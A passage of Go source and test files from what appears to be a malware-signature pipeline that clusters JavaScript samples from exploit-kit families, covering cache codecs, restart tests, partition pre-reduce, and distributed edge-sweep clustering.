	for i, p := range payloads {
		f, o, swept := bestMatchCached(cache, nil, corpus, p)
		if swept != 1 {
			t.Fatalf("post-bump lookup %d swept %d, want 1", i, swept)
		}
		if (verdict{f, o}) != cold[i] {
			t.Fatalf("post-bump lookup %d changed verdict: (%s,%v) vs (%s,%v)",
				i, f, o, cold[i].family, cold[i].overlap)
		}
	}
	// And the refreshed entries are warm again.
	for i, p := range payloads {
		if _, _, swept := bestMatchCached(cache, nil, corpus, p); swept != 0 {
			t.Fatalf("re-warmed lookup %d swept %d, want 0", i, swept)
		}
	}
}
