package pipeline

import (
	"reflect"
	"testing"

	"kizzle/internal/contentcache"
	"kizzle/internal/ekit"
	"kizzle/internal/jstoken"
	"kizzle/internal/siggen"
	"kizzle/internal/winnow"
)

// TestCacheCodecsRoundTrip pins every pipeline codec: encode → decode must
// reproduce the value exactly, and truncated encodings must fail rather
// than produce garbage.
func TestCacheCodecsRoundTrip(t *testing.T) {
	codecs := CacheCodecs()
	cases := []struct {
		name  string
		kind  contentcache.Kind
		value any
	}{
		{"symbols", kindRawSymbols, []jstoken.Symbol{3, 1, 4, 1, 5, 9, 2, 6}},
		{"symbols-empty", kindRawSymbols, []jstoken.Symbol{}},
		{"unpack", kindUnpack, unpackEntry{payload: "var decoded = 1;", method: "eval-unescape"}},
		{"unpack-unpacked", kindUnpack, unpackEntry{payload: "plain", method: ""}},
		{"fingerprint", kindFingerprint, fingerprintEntry{
			cfg:  winnow.Config{K: 5, Window: 8},
			hist: winnow.Histogram{0xdeadbeef: 3, 1: 1, 1 << 60: 7},
		}},
		{"label", kindLabel, labelEntry{cfg: winnow.Config{K: 3, Window: 4}, verdicts: []FamilyVerdict{
			{Family: "Nuclear", Gen: 42, Overlap: 0.875},
			{Family: "RIG", Gen: 7, Overlap: 0.31},
		}}},
		{"label-benign", kindLabel, labelEntry{cfg: winnow.DefaultConfig(), verdicts: []FamilyVerdict{
			{Family: "Angler", Gen: 1 << 63, Overlap: 0.01},
		}}},
		{"tokens", kindTokens, []jstoken.Token{
			{Class: jstoken.ClassKeyword, Text: "var", Pos: 0},
			{Class: jstoken.ClassIdentifier, Text: "x", Pos: 4},
			{Class: jstoken.ClassString, Text: `"s"`, Pos: 8},
		}},
		{"signature", kindSignature, signatureEntry{
			cfg: siggen.Config{MinTokens: 10, MaxTokens: 200, MaxLiteral: 64},
			sig: siggen.Signature{
				Family:  "Angler",
				Samples: 12,
				Elements: []siggen.Element{
					{Kind: siggen.KindLiteral, Literal: "eval", Group: -1},
					{Kind: 3, Class: "w", MinLen: 2, MaxLen: 9, Group: 1},
				},
			},
		}},
		{"verdict-true", kindPairVerdict, true},
		{"verdict-false", kindPairVerdict, false},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			codec, ok := codecs[tc.kind]
			if !ok {
				t.Fatalf("no codec for kind %d", tc.kind)
			}
			data, err := codec.Encode(tc.value)
			if err != nil {
				t.Fatal(err)
			}
			got, err := codec.Decode(data)
			if err != nil {
				t.Fatal(err)
			}
			if !reflect.DeepEqual(tc.value, got) {
				t.Fatalf("round trip diverged:\n want %#v\n got  %#v", tc.value, got)
			}
			for cut := 0; cut < len(data); cut++ {
				if _, err := codec.Decode(data[:cut]); err == nil {
					t.Fatalf("decode accepted truncation at %d/%d bytes", cut, len(data))
				}
			}
			if _, err := codec.Encode(struct{}{}); err == nil {
				t.Fatal("encode accepted a foreign type")
			}
		})
	}
}

// warmPair builds two overlapping days of inputs, the Figure 11 regime:
// ~85% of day N's distinct content recurs on day N+1.
func warmPair(t testing.TB) (day1, day2 []Input, corpus func() *Corpus) {
	t.Helper()
	day := ekit.Date(8, 9)
	d1 := dayInputs(t, day, 120)
	dn := dayInputs(t, day+1, 120)
	carried := int(float64(len(d1)) * 0.85)
	novel := len(d1) - carried
	if novel > len(dn) {
		t.Fatalf("not enough novel inputs: need %d, have %d", novel, len(dn))
	}
	d2 := append(append([]Input(nil), d1[:carried]...), dn[:novel]...)
	return d1, d2, func() *Corpus { return seededCorpus(day) }
}

// TestPersistentCacheRestart is the tentpole's restart-economics test: a
// cache saved to disk and reloaded must (a) leave pipeline output
// untouched and (b) recover at least 80% of the warm-day hit rate an
// uninterrupted in-memory cache achieves.
func TestPersistentCacheRestart(t *testing.T) {
	day1, day2, corpus := warmPair(t)
	cfg := DefaultConfig()

	// Reference: day 2 with no cache at all.
	ref, err := Process(day2, corpus(), cfg)
	if err != nil {
		t.Fatal(err)
	}
	stripTimings(&ref)

	runWarm := func(cache *contentcache.Cache) (Result, float64) {
		t.Helper()
		ccfg := cfg
		ccfg.Cache = cache
		cache.ResetStats()
		res, err := Process(day2, corpus(), ccfg)
		if err != nil {
			t.Fatal(err)
		}
		st := cache.Stats()
		rate := 0.0
		if st.Hits+st.Misses > 0 {
			rate = float64(st.Hits) / float64(st.Hits+st.Misses)
		}
		return res, rate
	}

	// Uninterrupted process: day 1 primes, day 2 runs warm.
	mem := contentcache.New(32 << 20)
	memCfg := cfg
	memCfg.Cache = mem
	if _, err := Process(day1, corpus(), memCfg); err != nil {
		t.Fatal(err)
	}
	memRes, memRate := runWarm(mem)

	// Restarted process: day 1 primes, snapshot to disk, reload, day 2.
	dir := t.TempDir()
	before := contentcache.New(32 << 20)
	beforeCfg := cfg
	beforeCfg.Cache = before
	if _, err := Process(day1, corpus(), beforeCfg); err != nil {
		t.Fatal(err)
	}
	saved, err := before.Save(dir, CacheCodecs())
	if err != nil {
		t.Fatal(err)
	}
	if saved.Skipped > 0 {
		t.Fatalf("%d pipeline entries had no codec", saved.Skipped)
	}
	reloaded, lstats, err := contentcache.Load(dir, CacheCodecs(), 32<<20)
	if err != nil {
		t.Fatal(err)
	}
	if lstats.Entries != saved.Entries || lstats.SkippedEntries > 0 || lstats.CorruptSegments > 0 {
		t.Fatalf("lossy reload: saved %+v, loaded %+v", saved, lstats)
	}
	diskRes, diskRate := runWarm(reloaded)

	stripTimings(&memRes)
	stripTimings(&diskRes)
	if !reflect.DeepEqual(ref.Clusters, memRes.Clusters) || !reflect.DeepEqual(ref.Signatures, memRes.Signatures) {
		t.Fatal("in-memory warm run diverged from uncached run")
	}
	if !reflect.DeepEqual(ref.Clusters, diskRes.Clusters) || !reflect.DeepEqual(ref.Signatures, diskRes.Signatures) {
		t.Fatal("restarted warm run diverged from uncached run")
	}

	t.Logf("warm-day hit rate: in-memory %.1f%%, after restart %.1f%%", 100*memRate, 100*diskRate)
	if memRate == 0 {
		t.Fatal("in-memory warm run had no cache hits; test premise broken")
	}
	if diskRate < 0.8*memRate {
		t.Fatalf("restart kept %.1f%% hit rate, want ≥80%% of in-memory %.1f%%", 100*diskRate, 100*memRate)
	}
}
