package pipeline

import (
	"math/rand"
	"reflect"
	"sort"
	"testing"

	"kizzle/internal/contentcache"
	"kizzle/internal/ekit"
	"kizzle/internal/jstoken"
)

// symbolSeq builds an in-alphabet sequence from bytes.
func symbolSeq(s string) []jstoken.Symbol {
	space := jstoken.Symbol(jstoken.SymbolSpace())
	out := make([]jstoken.Symbol, len(s))
	for i := 0; i < len(s); i++ {
		out[i] = jstoken.Symbol(s[i]) % space
	}
	return out
}

// TestPreReducePartition pins the pre-reduce semantics on a hand-built
// partition: clusters with representatives within eps merge, local noise
// within eps of a merged representative folds in, and the rest stays
// noise.
func TestPreReducePartition(t *testing.T) {
	// Sequences: 0,1 identical (cluster A); 2,3 identical to each other
	// and to A within eps (cluster B merges with A); 4,5 form a distant
	// cluster C; 6 is noise near A's rep; 7 is distant noise.
	near := "aaaaaaaaaa"
	nearish := "aaaaaaaaab" // distance 1/10 = 0.1 ≤ eps 0.2
	far := "zzzzzzzzzzzzzzzzzzzzzzzzz"
	lone := "mmmmmmmmmmmmmmmmm"
	p := ShardPartition{
		Seqs: [][]jstoken.Symbol{
			symbolSeq(near), symbolSeq(near),
			symbolSeq(nearish), symbolSeq(nearish),
			symbolSeq(far), symbolSeq(far),
			symbolSeq(nearish),
			symbolSeq(lone),
		},
		Weights: []int{3, 1, 1, 1, 2, 2, 1, 1},
	}
	sc := ShardClusters{
		Clusters: [][]int{{0, 1}, {2, 3}, {4, 5}},
		Noise:    []int{6, 7},
	}
	cfg := Config{Eps: 0.2, Workers: 2}
	got := PreReducePartition(p, sc, cfg)

	want := ReducedPartition{
		// A (rep 0, weight 3) merges with B (rep 2); C stays apart. Noise
		// 6 folds into the merged cluster (within eps of rep 0); 7 stays.
		Clusters: [][]int{{0, 1, 2, 3, 6}, {4, 5}},
		Reps:     []int{0, 4},
		Noise:    []int{7},
	}
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("PreReducePartition = %+v, want %+v", got, want)
	}

	// Pure function: a verdict cache must not change the result.
	cfg.Cache = contentcache.New(1 << 20)
	for run := 0; run < 2; run++ {
		if cached := PreReducePartition(p, sc, cfg); !reflect.DeepEqual(cached, want) {
			t.Fatalf("cached run %d diverged: %+v", run, cached)
		}
	}
}

// TestCheckShardClustersRejectsCorrupt pins the coordinator-side wire
// validation: a worker response must assign every partition index to
// exactly one cluster or the noise pool — duplicated, dropped, and
// out-of-range indices are all corruption, not just the out-of-range
// ones that would panic.
func TestCheckShardClustersRejectsCorrupt(t *testing.T) {
	cases := []struct {
		name string
		sc   ShardClusters
		ok   bool
	}{
		{"honest", ShardClusters{Clusters: [][]int{{0, 1}, {3}}, Noise: []int{2}}, true},
		{"all noise", ShardClusters{Noise: []int{0, 1, 2, 3}}, true},
		{"duplicate across clusters", ShardClusters{Clusters: [][]int{{0, 1}, {0}}, Noise: []int{2, 3}}, false},
		{"duplicate in cluster and noise", ShardClusters{Clusters: [][]int{{0, 1}}, Noise: []int{1, 2, 3}}, false},
		{"dropped index", ShardClusters{Clusters: [][]int{{0, 1}}, Noise: []int{2}}, false},
		{"out of range", ShardClusters{Clusters: [][]int{{0, 4}}, Noise: []int{1, 2, 3}}, false},
		{"negative", ShardClusters{Clusters: [][]int{{0, -1}}, Noise: []int{1, 2, 3}}, false},
		{"empty cluster", ShardClusters{Clusters: [][]int{{0, 1, 2, 3}, {}}}, false},
	}
	for _, tc := range cases {
		err := CheckShardClusters(tc.sc, 4)
		if tc.ok && err != nil {
			t.Errorf("%s: unexpected error %v", tc.name, err)
		}
		if !tc.ok && err == nil {
			t.Errorf("%s: corrupt response accepted", tc.name)
		}
	}
}

// TestMapSummaryRejectsCorrupt pins the same exact-once contract on the
// pre-reduced summaries v2 workers return, plus the rep-membership
// invariant (every honest rep is a member of its own cluster).
func TestMapSummaryRejectsCorrupt(t *testing.T) {
	uniques := []int{10, 20, 30, 40}
	cases := []struct {
		name string
		r    ReducedPartition
		ok   bool
	}{
		{"honest", ReducedPartition{Clusters: [][]int{{0, 1, 3}}, Reps: []int{1}, Noise: []int{2}}, true},
		{"rep not a member", ReducedPartition{Clusters: [][]int{{0, 1, 3}}, Reps: []int{2}, Noise: []int{2}}, false},
		{"duplicate member", ReducedPartition{Clusters: [][]int{{0, 1, 1}}, Reps: []int{0}, Noise: []int{2, 3}}, false},
		{"dropped index", ReducedPartition{Clusters: [][]int{{0, 1}}, Reps: []int{0}, Noise: []int{2}}, false},
		{"reps/clusters mismatch", ReducedPartition{Clusters: [][]int{{0, 1, 2, 3}}, Reps: []int{0, 1}}, false},
	}
	for _, tc := range cases {
		s, err := mapSummary(uniques, &tc.r)
		if tc.ok {
			if err != nil {
				t.Errorf("%s: unexpected error %v", tc.name, err)
				continue
			}
			if !reflect.DeepEqual(s.clusters, [][]int{{10, 20, 40}}) || !reflect.DeepEqual(s.reps, []int{20}) || !reflect.DeepEqual(s.noise, []int{30}) {
				t.Errorf("%s: mapped summary %+v", tc.name, s)
			}
		} else if err == nil {
			t.Errorf("%s: corrupt summary accepted", tc.name)
		}
	}
}

// TestSweepPairsMatchesNeighborGraph pins the edge-sweep kernel against
// the clustering neighbor graph: a triangular sweep over an index set
// must yield exactly the adjacency the partition stage computes.
func TestSweepPairsMatchesNeighborGraph(t *testing.T) {
	rng := rand.New(rand.NewSource(7))
	space := jstoken.SymbolSpace()
	var seqs [][]jstoken.Symbol
	for i := 0; i < 60; i++ {
		n := 20 + rng.Intn(60)
		seq := make([]jstoken.Symbol, n)
		base := rng.Intn(8)
		for j := range seq {
			// Clumpy content so some pairs fall within eps.
			seq[j] = jstoken.Symbol((base + rng.Intn(4)) % space)
		}
		seqs = append(seqs, seq)
	}
	idx := make([]int, len(seqs))
	for i := range idx {
		idx[i] = i
	}
	for _, eps := range []float64{0.05, 0.2, 0.5} {
		adj := neighborGraph(seqs, nil, nil, idx, eps, 3)
		pairs := sweepPairs(seqs, nil, nil, idx, nil, eps, 3)
		fromPairs := make([][]int, len(seqs))
		for _, pr := range pairs {
			if pr[0] >= pr[1] {
				t.Fatalf("eps=%v: pair %v not ascending", eps, pr)
			}
			fromPairs[pr[0]] = append(fromPairs[pr[0]], pr[1])
			fromPairs[pr[1]] = append(fromPairs[pr[1]], pr[0])
		}
		for i := range seqs {
			got := append([]int(nil), fromPairs[i]...)
			want := append([]int(nil), adj.Neighbors(i)...)
			sortInts(got)
			sortInts(want)
			if !reflect.DeepEqual(got, want) {
				t.Fatalf("eps=%v: node %d adjacency %v != neighborGraph %v", eps, i, got, want)
			}
		}
		// Bipartite splits must cover the same cross pairs.
		rows, cols := idx[:20], idx[20:]
		bi := sweepPairs(seqs, nil, nil, rows, cols, eps, 3)
		crossWant := 0
		for _, pr := range pairs {
			if pr[0] < 20 && pr[1] >= 20 {
				crossWant++
			}
		}
		if len(bi) != crossWant {
			t.Fatalf("eps=%v: bipartite sweep found %d pairs, want %d", eps, len(bi), crossWant)
		}
	}
}

// TestBuildEdgeJobsCoverage pins the job chunking: for any fleet size the
// union of job results covers every pair exactly once, triangular and
// bipartite alike.
func TestBuildEdgeJobsCoverage(t *testing.T) {
	rng := rand.New(rand.NewSource(11))
	space := jstoken.SymbolSpace()
	var seqs [][]jstoken.Symbol
	for i := 0; i < 37; i++ {
		n := 10 + rng.Intn(30)
		seq := make([]jstoken.Symbol, n)
		for j := range seq {
			seq[j] = jstoken.Symbol(rng.Intn(6) % space)
		}
		seqs = append(seqs, seq)
	}
	idx := make([]int, len(seqs))
	for i := range idx {
		idx[i] = i
	}
	const eps = 0.3
	for _, fleet := range []int{1, 2, 3, 4, 8, 64} {
		for _, cols := range [][]int{nil, idx[25:]} {
			rows := idx
			if cols != nil {
				rows = idx[:25]
			}
			want, _ := localEdges(&uniqueSet{seqs: seqs}, Config{Eps: eps, Workers: 2}, rows, cols)
			specs := buildEdgeJobs(seqs, rows, cols, eps, fleet, nil, nil)
			seen := make(map[[2]int]int)
			for si, spec := range specs {
				el, err := SweepEdges(spec.job, 2, nil)
				if err != nil {
					t.Fatalf("fleet=%d job %d: %v", fleet, si, err)
				}
				for _, pr := range el.Pairs {
					seen[[2]int{spec.mapRow[pr[0]], spec.mapCol[pr[1]]}]++
				}
			}
			if len(seen) != len(want) {
				t.Fatalf("fleet=%d cols=%v: %d distinct pairs, want %d", fleet, cols != nil, len(seen), len(want))
			}
			for _, pr := range want {
				if seen[pr] != 1 {
					t.Fatalf("fleet=%d: pair %v seen %d times", fleet, pr, seen[pr])
				}
			}
		}
	}
}

// TestBuildEdgeJobsPlacementCoverage pins the placement-aware job
// composition: with rows grouped by resident shard (per-group triangles
// plus cross-group rectangles) the union of job results must cover every
// unordered pair exactly once — identical to the unplaced chunking.
// Placed rectangles emit pairs in whichever orientation the group order
// dictates, so triangular coverage is checked order-normalized, exactly
// as streamSession.edges normalizes before handing pairs to the reduce.
func TestBuildEdgeJobsPlacementCoverage(t *testing.T) {
	rng := rand.New(rand.NewSource(23))
	space := jstoken.SymbolSpace()
	var seqs [][]jstoken.Symbol
	for i := 0; i < 41; i++ {
		n := 10 + rng.Intn(30)
		seq := make([]jstoken.Symbol, n)
		for j := range seq {
			seq[j] = jstoken.Symbol(rng.Intn(6) % space)
		}
		seqs = append(seqs, seq)
	}
	rows := make([]int, len(seqs))
	for i := range rows {
		rows[i] = i
	}
	keyFor := func(ui int) SeqKey { return SeqKeyOf(seqs[ui]) }
	const eps = 0.3
	want, _ := localEdges(&uniqueSet{seqs: seqs}, Config{Eps: eps, Workers: 2}, rows, nil)
	for _, shards := range []int{1, 2, 3, 8} {
		// Scatter rows across shards, with a sprinkle of unplaced (-1)
		// rows — the cold-cache case placement must also cover.
		place := make([]int, len(rows))
		for i := range place {
			place[i] = rng.Intn(shards+1) - 1
		}
		specs := buildEdgeJobs(seqs, rows, nil, eps, shards, keyFor, place)
		seen := make(map[[2]int]int)
		for si, spec := range specs {
			if len(spec.job.Keys) != len(spec.job.Seqs) {
				t.Fatalf("shards=%d job %d: %d keys for %d seqs", shards, si, len(spec.job.Keys), len(spec.job.Seqs))
			}
			el, err := SweepEdges(spec.job, 2, nil)
			if err != nil {
				t.Fatalf("shards=%d job %d: %v", shards, si, err)
			}
			for _, pr := range el.Pairs {
				a, b := spec.mapRow[pr[0]], spec.mapCol[pr[1]]
				if a > b {
					a, b = b, a
				}
				seen[[2]int{a, b}]++
			}
		}
		if len(seen) != len(want) {
			t.Fatalf("shards=%d: %d distinct pairs, want %d", shards, len(seen), len(want))
		}
		for _, pr := range want {
			if seen[pr] != 1 {
				t.Fatalf("shards=%d: pair %v seen %d times", shards, pr, seen[pr])
			}
		}
	}
}

// TestChunkedNoisePairsOrderInvariant pins the determinism claim behind
// noise chunking: chunk membership is a pure function of content digests,
// so permuting the pooled noise list (summaries arriving in any order)
// must leave the tested pair set — mapped back to unique indices —
// unchanged, and every chunk must respect the size bound.
func TestChunkedNoisePairsOrderInvariant(t *testing.T) {
	rng := rand.New(rand.NewSource(7))
	space := jstoken.SymbolSpace()
	var seqs [][]jstoken.Symbol
	for i := 0; i < 50; i++ {
		n := 8 + rng.Intn(20)
		seq := make([]jstoken.Symbol, n)
		for j := range seq {
			seq[j] = jstoken.Symbol(rng.Intn(5) % space)
		}
		seqs = append(seqs, seq)
	}
	u := &uniqueSet{seqs: seqs}
	for i := range seqs {
		u.ids = append(u.ids, seqID{h1: hashSeq(seqs[i]), h2: altHashSeq(seqs[i]), n: len(seqs[i])})
	}
	digestOf := func(ui int) uint64 { return u.ids[ui].h1 }
	cfg := Config{Eps: 0.3, Workers: 2}
	edges := func(rows, cols []int) ([][2]int, error) { return localEdges(u, cfg, rows, cols) }

	noise := make([]int, len(seqs))
	for i := range noise {
		noise[i] = i
	}
	const chunk = 12
	uniqPairs := func(noise []int) map[[2]int]int {
		t.Helper()
		pairs, err := chunkedNoisePairs(noise, digestOf, chunk, edges)
		if err != nil {
			t.Fatal(err)
		}
		out := make(map[[2]int]int)
		for _, pr := range pairs {
			a, b := noise[pr[0]], noise[pr[1]]
			if a > b {
				a, b = b, a
			}
			out[[2]int{a, b}]++
		}
		return out
	}
	ref := uniqPairs(noise)
	for trial := 0; trial < 3; trial++ {
		perm := append([]int(nil), noise...)
		rng.Shuffle(len(perm), func(i, j int) { perm[i], perm[j] = perm[j], perm[i] })
		if got := uniqPairs(perm); !reflect.DeepEqual(ref, got) {
			t.Fatalf("trial %d: permuting the noise pool changed the tested pair set", trial)
		}
	}
}

// TestSplitTriangularBounds sanity-checks the triangular chunking.
func TestSplitTriangularBounds(t *testing.T) {
	for _, n := range []int{0, 1, 2, 5, 27, 100} {
		for _, fleet := range []int{1, 2, 4, 7, 200} {
			b := splitTriangular(n, fleet)
			if len(b) != fleet+1 || b[0] != 0 || b[len(b)-1] != n {
				t.Fatalf("splitTriangular(%d,%d) = %v", n, fleet, b)
			}
			for i := 1; i < len(b); i++ {
				if b[i] < b[i-1] {
					t.Fatalf("splitTriangular(%d,%d) not monotone: %v", n, fleet, b)
				}
			}
		}
	}
}

// TestPackedSeqsRoundTrip pins the wire encoding of edge-job sequences.
func TestPackedSeqsRoundTrip(t *testing.T) {
	in := PackedSeqs{
		symbolSeq("hello world"),
		nil,
		{0, 1, 255, 256, 300},
	}
	data, err := in.MarshalJSON()
	if err != nil {
		t.Fatal(err)
	}
	var out PackedSeqs
	if err := out.UnmarshalJSON(data); err != nil {
		t.Fatal(err)
	}
	if len(out) != len(in) {
		t.Fatalf("round trip length %d != %d", len(out), len(in))
	}
	for i := range in {
		if !symbolsEqual(in[i], out[i]) {
			t.Fatalf("sequence %d diverged: %v != %v", i, out[i], in[i])
		}
	}
	for _, bad := range []string{`["###"]`, `["QUJD"]`, `[1]`} {
		var p PackedSeqs
		if err := p.UnmarshalJSON([]byte(bad)); err == nil {
			t.Errorf("UnmarshalJSON(%q) accepted invalid input", bad)
		}
	}
}

// TestBatchMatchesStream pins the dispatch-mode identity on the
// in-process path: batch dispatch, streaming dispatch, and pre-reduce
// placement must all produce bit-identical results.
func TestBatchMatchesStream(t *testing.T) {
	day := ekit.Date(8, 9)
	inputs := dayInputs(t, day, 100)
	base := DefaultConfig()
	base.Workers = 3
	base.PartitionSize = 9 // many partitions

	ref, err := Process(inputs, seededCorpus(day), base)
	if err != nil {
		t.Fatal(err)
	}
	stripTimings(&ref)

	modes := []struct {
		name   string
		mutate func(*Config)
		same   bool
	}{
		{"batch", func(c *Config) { c.BatchDispatch = true }, true},
		// Different fanout legitimately changes partition composition (and
		// so may change clusters); it must still be deterministic.
		{"fanout=1", func(c *Config) { c.PartitionFanout = 1 }, false},
	}
	for _, m := range modes {
		t.Run(m.name, func(t *testing.T) {
			cfg := base
			m.mutate(&cfg)
			got, err := Process(inputs, seededCorpus(day), cfg)
			if err != nil {
				t.Fatal(err)
			}
			stripTimings(&got)
			if m.same {
				if !reflect.DeepEqual(ref.Clusters, got.Clusters) || !reflect.DeepEqual(ref.Signatures, got.Signatures) {
					t.Fatal("dispatch mode changed pipeline output")
				}
				return
			}
			again, err := Process(inputs, seededCorpus(day), cfg)
			if err != nil {
				t.Fatal(err)
			}
			stripTimings(&again)
			if !reflect.DeepEqual(got, again) {
				t.Fatal("mode is not deterministic across runs")
			}
		})
	}
}

func sortInts(s []int) { sort.Ints(s) }
