package pipeline

import (
	"sort"

	"kizzle/internal/dbscan"
)

// This file implements the top of the hierarchical reduce. The bottom
// level — PreReducePartition — runs next to clustering (on the shard that
// clustered the partition, or on the coordinator for protocol-v1 fleets)
// and compacts each partition's result into a summary. This level merges
// the summaries: representative merge across partitions, global noise
// re-clustering, and straggler adoption. Its three distance sweeps are
// expressed through an edgeFunc so they can run either in-process
// (parallel across cfg.Workers, verdicts cached) or fanned out to the
// shard fleet as edge jobs; the pair sets — and therefore the output —
// are identical either way.

// summary is one partition's pre-reduced result in unique-sequence
// indices: the coordinator-side form of ReducedPartition.
type summary struct {
	clusters [][]int
	reps     []int
	noise    []int
}

// edgeFunc evaluates within-eps pairs over unique-sequence indices: with
// cols nil, every unordered pair of rows (ascending positions i < j);
// otherwise every (row, col) pair. Results are ascending row-major
// position pairs — the contract sweepPairs implements.
type edgeFunc func(rows, cols []int) ([][2]int, error)

// reduceSummaries merges partition summaries into the final cluster set:
//
//  1. Clusters whose representatives are within eps merge (union-find over
//     the representative eps graph — "the final pairwise merge over
//     representatives only").
//  2. The pooled unfolded noise is re-clustered globally (uniques whose
//     family was split across partitions below MinPts per partition still
//     deserve a cluster), bounded by cfg.MaxNoiseRecluster.
//  3. Remaining noise within eps of a merged cluster's representative is
//     adopted by the first such cluster.
//
// weightOf supplies each unique's sample weight as the clustering stage
// saw it (the weight at partition emission), so representative selection
// agrees with the shard-side pre-reduce. digestOf supplies each unique's
// content digest, used only to order noise deterministically when
// cfg.NoiseChunk splits a large pool into fixed-size chunks. Every step
// is deterministic in the summary list, which is itself deterministic in
// the input batch — so shard count, scheduling, and result arrival order
// cannot change the output.
func reduceSummaries(sums []summary, weightOf func(int) int, digestOf func(int) uint64, cfg Config, edges edgeFunc) ([][]int, []int, error) {
	var clusters [][]int
	var reps []int
	for _, s := range sums {
		clusters = append(clusters, s.clusters...)
		reps = append(reps, s.reps...)
	}

	// Representative merge across partitions.
	pairs, err := edges(reps, nil)
	if err != nil {
		return nil, nil, err
	}
	merged, mergedReps := mergeClustersByRepPairs(clusters, reps, pairs, weightOf)

	// Global noise re-clustering over the pooled unfolded noise. With
	// NoiseChunk set, a pool larger than one chunk is split into fixed-size
	// chunks in content-digest order and each chunk is swept independently:
	// the quadratic sweep cost drops from (pool size)² to chunks·(chunk
	// size)², which is what keeps provider-scale noise pools from
	// serializing the reduce — at the documented cost that cross-chunk
	// noise pairs are not tested (straggler adoption still runs over the
	// full leftover pool). Digest order makes chunk membership a pure
	// function of content, so scheduling and shard count cannot change the
	// output. Chunked pools also bypass the MaxNoiseRecluster cap — the cap
	// exists to bound exactly the quadratic blowup chunking removes.
	var noise []int
	for _, s := range sums {
		noise = append(noise, s.noise...)
	}
	chunked := cfg.NoiseChunk > 0 && len(noise) > cfg.NoiseChunk
	if len(noise) > 0 && (chunked || cfg.MaxNoiseRecluster == 0 || len(noise) <= cfg.MaxNoiseRecluster) {
		var npairs [][2]int
		var err error
		if chunked {
			npairs, err = chunkedNoisePairs(noise, digestOf, cfg.NoiseChunk, edges)
		} else {
			npairs, err = edges(noise, nil)
		}
		if err != nil {
			return nil, nil, err
		}
		adj := make(dbscan.StaticNeighborer, len(noise))
		for _, pr := range npairs {
			adj[pr[0]] = append(adj[pr[0]], pr[1])
			adj[pr[1]] = append(adj[pr[1]], pr[0])
		}
		for i := range adj {
			sort.Ints(adj[i])
		}
		weights := make([]int, len(noise))
		for i, ui := range noise {
			weights[i] = weightOf(ui)
		}
		ids := dbscan.ClusterWeighted(adj, weights, cfg.MinPts)
		for _, group := range dbscan.Groups(ids) {
			nc := make([]int, len(group))
			for k, local := range group {
				nc[k] = noise[local]
			}
			merged = append(merged, nc)
			mergedReps = append(mergedReps, heaviest(nc, weightOf))
		}
		var rest []int
		for local, id := range ids {
			if id == dbscan.Noise {
				rest = append(rest, noise[local])
			}
		}
		noise = rest
	}

	// Straggler adoption: remaining noise within eps of a merged cluster's
	// (fixed) representative joins the first such cluster.
	var remaining []int
	if len(noise) > 0 && len(merged) > 0 {
		apairs, err := edges(noise, mergedReps)
		if err != nil {
			return nil, nil, err
		}
		adopted := adoptByFirstPair(apairs)
		for ni, ui := range noise {
			if gi, ok := adopted[ni]; ok {
				merged[gi] = append(merged[gi], ui)
			} else {
				remaining = append(remaining, ui)
			}
		}
	} else {
		remaining = noise
	}
	return merged, remaining, nil
}

// chunkedNoisePairs sweeps a large noise pool in fixed-size chunks:
// positions are ordered by (content digest, position) — deterministic in
// content, independent of partition scheduling — split into chunks of at
// most chunk entries, and each chunk is swept triangularly on its own.
// Returned pairs are positions into noise; only within-chunk pairs are
// tested, which is the documented approximation that bounds the sweep.
func chunkedNoisePairs(noise []int, digestOf func(int) uint64, chunk int, edges edgeFunc) ([][2]int, error) {
	order := make([]int, len(noise))
	for i := range order {
		order[i] = i
	}
	sort.Slice(order, func(a, b int) bool {
		da, db := digestOf(noise[order[a]]), digestOf(noise[order[b]])
		if da != db {
			return da < db
		}
		return order[a] < order[b]
	})
	var pairs [][2]int
	for lo := 0; lo < len(order); lo += chunk {
		hi := lo + chunk
		if hi > len(order) {
			hi = len(order)
		}
		if hi-lo < 2 {
			continue
		}
		rows := make([]int, hi-lo)
		for k := range rows {
			rows[k] = noise[order[lo+k]]
		}
		cpairs, err := edges(rows, nil)
		if err != nil {
			return nil, err
		}
		for _, pr := range cpairs {
			a, b := order[lo+pr[0]], order[lo+pr[1]]
			if a > b {
				a, b = b, a
			}
			pairs = append(pairs, [2]int{a, b})
		}
	}
	return pairs, nil
}

// The helpers below are the shared kernels of both levels of the merge
// tree: PreReducePartition (shard-side, partition-local indices) and
// reduceSummaries (coordinator-side, unique indices) must apply byte-for-
// byte identical rules, or the documented invariant — output independent
// of where the merge runs — silently breaks. Change them only in one
// place, here.

// mergeClustersByRepPairs unions clusters whose representative positions
// are connected in pairs, concatenating members in first-cluster order
// and keeping the heaviest representative (earliest wins ties).
func mergeClustersByRepPairs(clusters [][]int, reps []int, pairs [][2]int, weightOf func(int) int) ([][]int, []int) {
	parent := newUnionFind(len(clusters))
	for _, pr := range pairs {
		parent.union(pr[0], pr[1])
	}
	var merged [][]int
	var mergedReps []int
	groupOf := make(map[int]int)
	for ci, members := range clusters {
		root := parent.find(ci)
		gi, ok := groupOf[root]
		if !ok {
			gi = len(merged)
			groupOf[root] = gi
			merged = append(merged, nil)
			mergedReps = append(mergedReps, reps[ci])
		}
		merged[gi] = append(merged[gi], members...)
		if weightOf(reps[ci]) > weightOf(mergedReps[gi]) {
			mergedReps[gi] = reps[ci]
		}
	}
	return merged, mergedReps
}

// adoptByFirstPair maps each row position to its first within-eps column
// ("first" is deterministic: pair lists are ascending row-major).
func adoptByFirstPair(pairs [][2]int) map[int]int {
	adopted := make(map[int]int, len(pairs))
	for _, pr := range pairs {
		if _, ok := adopted[pr[0]]; !ok {
			adopted[pr[0]] = pr[1]
		}
	}
	return adopted
}

// heaviest returns the member covering the most samples — the modal
// shape rule used for every representative choice (earliest wins ties).
func heaviest(members []int, weightOf func(int) int) int {
	best := members[0]
	for _, m := range members[1:] {
		if weightOf(m) > weightOf(best) {
			best = m
		}
	}
	return best
}
