package pipeline

import (
	"fmt"
	"sort"
	"sync"
	"time"

	"kizzle/internal/contentcache"
	"kizzle/internal/ingest"
	"kizzle/internal/jstoken"
	"kizzle/internal/parallel"
)

// This file implements the streaming dispatch of the clustering stage.
// Tokenization, dedup, and partition emission are fused into one pass:
// group representatives are lexed one chunk ahead of the dedup cursor, and
// every time PartitionSize new unique sequences accumulate, the partition
// is emitted immediately — so a shard fleet starts clustering while the
// host is still lexing and deduplicating the tail of the batch. Partition
// content (membership and weights) depends only on the input order, never
// on scheduling, which keeps the pipeline's output bit-identical across
